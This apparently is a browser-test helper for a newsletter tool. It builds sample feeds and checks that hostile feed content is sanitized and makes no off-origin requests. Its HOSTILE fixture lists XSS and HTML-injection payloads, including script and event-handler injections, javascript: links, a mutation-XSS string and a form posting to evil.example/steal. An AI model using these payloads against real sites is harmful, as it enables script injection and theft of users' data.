// A newsletter in a folder of its own, made by the real program: issues, feeds, a poll, a server.

import { execFile, spawn } from "node:child_process";
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { fileURLToPath } from "node:url";
import { promisify } from "node:util";

const here = dirname(fileURLToPath(import.meta.url));
export const NOW = "2026-11-15T12:00:00Z";

// The program: what NEWSDESK names, or what cargo built last for tests.
export const program = process.env.NEWSDESK || join(here, "../../target/debug/newsdesk");

const chromiums = [process.env.CHROMIUM, "/usr/bin/chromium", "/usr/bin/chromium-browser", "/usr/bin/google-chrome"];
export const chromiumPath = chromiums.find((path) => path && existsSync(path));

// Why nothing can be tested here; false where it can.
export const missing = (() => {
  if (!chromiumPath) return "no Chromium here; `.ci/run` installs it";
  if (!existsSync(program)) return `no program at ${program}; \`cargo build\` makes it`;
  if (!existsSync(join(here, "node_modules/playwright-core"))) return "no playwright-core; `npm ci` installs it";
  return false;
})();

const CONFIG = `[newsletter]
title = "The Lantern"
base_url = "https://lantern.example/"
authority = "lantern.example,2026"
authors = ["Ada Moreau", "Ben Okoye"]

[poll]
allow_private = ["127.0.0.1"]
ports = [PORT]

[[source]]
url = "file:feeds/sources/harbour.xml"
tags = ["blogs"]

[[source]]
url = "file:feeds/sources/preprints.xml"
kind = "paper"
tags = ["science"]

[[source]]
url = "file:feeds/sources/signals.xml"
kind = "podcast"

[[source]]
url = "file:feeds/sources/planet.xml"
tags = ["blogs"]
`;

const POSTS = [
  ["Why tide tables are still printed", "Almanacs survive because a boat has no signal, and a page needs no battery."],
  ["A compiler that fits on a napkin", "Forty lines that turn arithmetic into machine code, and what they leave out."],
  ["Maps drawn from memory", "Two hundred people drew the way to work; where they agree is where the city works."],
  ["The archive that nobody catalogued", "Nine thousand reels, three volunteers, and a spreadsheet with a column called Other."],
  ["How a lighthouse keeps time", "The rhythm of a light is its name. Keeping that rhythm took clocks that feared no salt."],
  ["Small tools for long texts", "Editing a book with nothing but a shell and patience, chapter by chapter."],
  ["Repairing a feed by hand", "What thirty broken feeds have in common, and the one line that mends most of them."],
  ["Letters as software", "Type designers ship releases now, and their readers file bugs."],
  ["The cost of a broken link", "A court cited a page that is gone. We went looking for everybody who cited the court."],
  ["Notes from a quiet server", "A year of logs from a machine that almost nobody visits."],
  ["Learning to read charts again", "What sailors see in a depth line that engineers do not."],
  ["A dictionary of error messages", "They are written for nobody, at night, in a hurry. Here are the kind ones."],
];
const OLDER = [
  "Ink that outlives its printer", "Who owns a footnote", "Charts for people in a hurry", "Buoys, bells and file formats",
  "A museum of cursors", "Sounding the shallow end", "Backups in oil paint", "Reading aloud to machines",
  "The ferry that kept a diary", "Fonts for wet hands", "An index of everything lost", "Harbour lights as a protocol",
];
const PAPERS = [
  "Provenance of web archives: a study of silent edits",
  "Compact indexes for full text on small machines",
  "Measuring forgetting in recommendation from small archives",
  "Legible maps under color blindness",
  "A grammar of depth soundings",
  "On the half-life of citations in online journals",
  "Deterministic builds and the trust of readers",
  "Hearing charts: sonification for navigation",
];
const SHOWS = ["The keeper of clocks", "Voices from the reading room", "Salt, light, glass", "One font, nine alphabets", "A map for the blind"];

const day = (days) => new Date(Date.parse(NOW) - days * 86_400_000);
const xml = (text) => text.replaceAll("&", "&amp;").replaceAll("<", "&lt;").replaceAll(">", "&gt;");
const slug = (text) => text.toLowerCase().replaceAll(/[^a-z]+/g, "-").replace(/-$/, "");

function feed(title, site, items) {
  const entries = items.map((item) => `<item><title>${xml(item.title)}</title><link>${xml(item.link)}</link>
<guid isPermaLink="false">${xml(item.link)}</guid><pubDate>${item.at.toUTCString()}</pubDate>
${item.author ? `<dc:creator>${xml(item.author)}</dc:creator>` : ""}${(item.tags || []).map((tag) => `<category>${xml(tag)}</category>`).join("")}
<description>${xml(item.html)}</description></item>`);
  return `<?xml version="1.0" encoding="utf-8"?>
<rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/"><channel><title>${xml(title)}</title><link>${site}</link>
<description>${xml(title)}</description>${entries.join("\n")}</channel></rss>\n`;
}

// Everything that a feed may try.
export const HOSTILE = [
  { title: "<script>window.hit='title'</script>Scripted title", link: "https://evil.example/1" },
  { title: "\"><img src=https://evil.example/t.gif onerror=window.hit='attribute'>Broken out", link: "https://evil.example/2" },
  { title: "A link that is a script", link: "javascript:window.hit='link'" },
  { title: "A link that is a page", link: "data:text/html,<script>top.hit='data'</script>" },
  { title: "Turned \u202Eelcitra na\u202C around", link: "https://evil.example/5" },
  { title: "L" + "o".repeat(3000) + "ng", link: "https://evil.example/6" },
  { title: "{{ csrf }} ${1+1} %7B%7B", link: "https://evil.example/7?a=\"><script>window.hit='query'</script>" },
].map((item, at) => ({
  author: "<img src=https://evil.example/a.gif onerror=window.hit='author'>Mallory",
  tags: ["<svg onload=window.hit='tag'>", "\"'><b>label"],
  ...item,
  at: day(at + 1),
  html: `<p onmouseover="window.hit='hover'">Hello ${at}.</p>
<script>window.hit='script'</script><script src="https://evil.example/s.js"></script>
<svg onload="window.hit='svg'"><script>window.hit='svg script'</script><image href="https://evil.example/svg.png"/></svg>
<math><mtext><table><mglyph><style><img src=x onerror=window.hit='mutation'></style></mglyph></table></mtext></math>
<img src="https://evil.example/pixel.gif" srcset="https://evil.example/2x.gif 2x" onerror="window.hit='error'" alt="a picture of a harbour">
<picture><source srcset="https://evil.example/source.webp"><img src="https://evil.example/in-picture.gif"></picture>
<video poster="https://evil.example/poster.gif" src="https://evil.example/v.mp4" autoplay></video><audio src="https://evil.example/a.mp3" autoplay></audio>
<iframe src="https://evil.example/frame" srcdoc="<script>top.hit='frame'</script>"></iframe><object data="https://evil.example/o.swf"></object><embed src="https://evil.example/e">
<style>@import "https://evil.example/i.css"; body{background:url(https://evil.example/b.gif);display:none}</style>
<link rel="stylesheet" href="https://evil.example/l.css"><link rel="prefetch" href="https://evil.example/pre"><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
<p style="background:url(https://evil.example/style.gif);position:fixed;inset:0">Styled.</p>
<form action="https://evil.example/steal" id="main"><input name="csrf" autofocus onfocus="window.hit='focus'"><button>Accept</button></form>
<a href="javascript:window.hit='anchor'">a script</a> <a href="https://evil.example/page" ping="https://evil.example/ping" target="_top">a page</a> <a href="/review/undo">ours</a>
<details open ontoggle="window.hit='toggle'"><summary>More</summary></details><p id="list" class="card current" data-from="https://evil.example/from">Clobbered.</p>`,
}));

function write(root, path, text) {
  const place = join(root, path);
  mkdirSync(dirname(place), { recursive: true });
  writeFileSync(place, text);
}

// Many entries more, five hundred a feed, over ten years.
function crowd(root, count) {
  const words = [...POSTS.map(([title]) => title), ...PAPERS, ...SHOWS].join(" ").split(/\W+/);
  const text = (from, length) => Array.from({ length }, (_, at) => words[(from * 31 + at * (7 + (from % 13))) % words.length]).join(" ");
  let sources = "";
  for (let feeds = 0; feeds * 500 < count; feeds += 1) {
    const items = Array.from({ length: Math.min(500, count - feeds * 500) }, (_, at) => {
      const number = feeds * 500 + at;
      return { title: `${text(number, 7)} ${number}`, link: `https://crowd${feeds}.example/${number}`, at: day(1 + (number % 3650)), tags: [words[number % words.length]], html: `<p>${text(number + 1, 120)}</p>` };
    });
    write(root, `feeds/crowd/${feeds}.xml`, feed(`Crowd ${feeds}`, `https://crowd${feeds}.example/`, items));
    sources += `\n[[source]]\nurl = "file:feeds/crowd/${feeds}.xml"\n${feeds % 3 ? "" : 'kind = "paper"\n'}`;
  }
  if (sources) write(root, "config.toml", readFileSync(join(root, "config.toml"), "utf8") + sources);
}

function newsletter(root, more) {
  const posts = POSTS.flatMap(([title, words], at) => [
    { title, link: `https://harbour.example/${slug(title)}`, at: day(2 + at * 3), author: "Ines Okafor", tags: ["craft", at % 2 ? "maps" : "text"], html: `<p>${words}</p><h2>More of it</h2><p>It goes on for a while, with <a href="https://other.example/">a link</a> and <img src="https://pictures.example/${at}.png" alt="a drawing of it">.</p>` },
    { title: OLDER[at], link: `https://harbour.example/${slug(OLDER[at])}`, at: day(22 + at * 30), author: "Ines Okafor", tags: ["craft", "maps"], html: `<p>${OLDER[at]}: an older post of the log, on maps and on text.</p>` },
  ]);
  const papers = PAPERS.map((title, at) => ({ title, link: `https://preprints.example/abs/2611.${1000 + at}`, at: day(3 + at * 9), author: "R. Castellanos, T. Wirth", tags: ["cs.DL"], html: `<p>We study ${title.toLowerCase()}. Results on three archives show that simple methods hold.</p>` }));
  const shows = SHOWS.map((title, at) => ({ title: `Episode ${20 - at}: ${title}`, link: `https://signals.example/${20 - at}`, at: day(5 + at * 14), html: `<p>A conversation of forty minutes: ${title.toLowerCase()}.</p>` }));
  const planet = posts.slice(0, 8).map((post) => ({ ...post, html: post.html }));
  write(root, "config.toml", CONFIG.replace("PORT", more.port || 8080));
  write(root, "feeds/sources/harbour.xml", feed("Harbour Log", "https://harbour.example/", posts));
  write(root, "feeds/sources/preprints.xml", feed("Document Preprints", "https://preprints.example/", papers));
  write(root, "feeds/sources/signals.xml", feed("Slow Signals", "https://signals.example/", shows));
  write(root, "feeds/sources/planet.xml", feed("Planet Paper", "https://planet.example/", planet));
  crowd(root, more.crowd || 0);
  for (let month = 0; month < 12; month += 1) {
    const at = new Date(Date.UTC(2025, 11 + month, 1)).toISOString().slice(0, 10);
    // The log's post of about that month.
    const title = OLDER[11 - month];
    const reader = ["Ada", "Ben", "Chloe"][month % 3];
    write(root, `issues/${at.slice(0, 7)}.md`, `---\ntitle: "Issue of ${at.slice(0, 7)}"\ndate: ${at}\n---\n\nWhat we read this month.\n\n## Recommended reading\n\n- [${title}](https://harbour.example/${slug(title)})\n\n  Worth an evening, and a second one. - [${reader}](https://lantern.example/people/${reader.toLowerCase()})\n\n- [A paper of month ${month + 1}](https://preprints.example/abs/${2512 + month}.0001)\n\n  Careful work on archives. - [Ben](https://lantern.example/people/ben)\n`);
  }
}

// A newsletter and its server. `close` ends it.
export async function open(more = {}) {
  const root = mkdtempSync(join(tmpdir(), "newsdesk-browser-"));
  newsletter(root, more);
  if (more.hostile) write(root, "feeds/sources/evil.xml", feed("<script>window.hit='feed'</script>Evil & Sons", "https://evil.example/", HOSTILE));
  const env = { ...process.env, NEWSDESK_NOW: NOW, NO_COLOR: "1" };
  // Servers of this process go on answering meanwhile.
  const run = async (...args) => (await promisify(execFile)(program, args, { cwd: root, env, maxBuffer: 1 << 28 })).stdout;
  if (more.hostile) await run("sources", "add", "feeds/sources/evil.xml");
  await run("poll");
  await run("build");
  const server = spawn(program, ["serve", "--address", "127.0.0.1:0"], { cwd: root, env, stdio: ["ignore", "ignore", "pipe"] });
  let said = "";
  const address = await new Promise((resolve, reject) => {
    server.stderr.on("data", (bytes) => {
      said += bytes;
      const found = said.match(/review: (http:\S+)/);
      if (found) resolve(found[1]);
    });
    server.on("exit", (code) => reject(new Error(`the server ended with ${code}\n${said}`)));
  });
  return {
    root,
    address,
    origin: new URL(address).origin,
    run,
    said: () => said,
    read: (path) => readFileSync(join(root, path), "utf8"),
    write: (path, text) => write(root, path, text),
    close: () => {
      server.removeAllListeners("exit");
      server.kill();
      rmSync(root, { recursive: true, force: true });
    },
  };
}

// A browser without anything that asks others of itself.
export async function browse() {
  const { chromium } = await import("playwright-core");
  return chromium.launch({
    executablePath: chromiumPath,
    args: ["--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking", "--disable-component-update", "--disable-sync"],
  });
}

// A window of a curator who is signed in. `asked` has every request that left the server's origin.
export async function curator(browser, desk, name, options = {}) {
  const context = await browser.newContext({ viewport: { width: 1280, height: 900 }, ...options });
  const asked = [];
  const wrong = [];
  await context.route((url) => url.origin !== desk.origin, (route) => {
    asked.push(route.request().url());
    return route.abort();
  });
  const page = await context.newPage();
  page.on("pageerror", (error) => wrong.push(String(error)));
  page.on("console", (message) => {
    if (message.type() === "error") wrong.push(message.text());
  });
  await page.goto(desk.address);
  await page.getByRole("button", { name, exact: true }).click();
  await page.getByRole("heading", { name: /candidate/ }).first().waitFor();
  // The keys do nothing before the script has run, which the heading does not wait for.
  await page.waitForLoadState("load");
  return { context, page, asked, wrong };
}
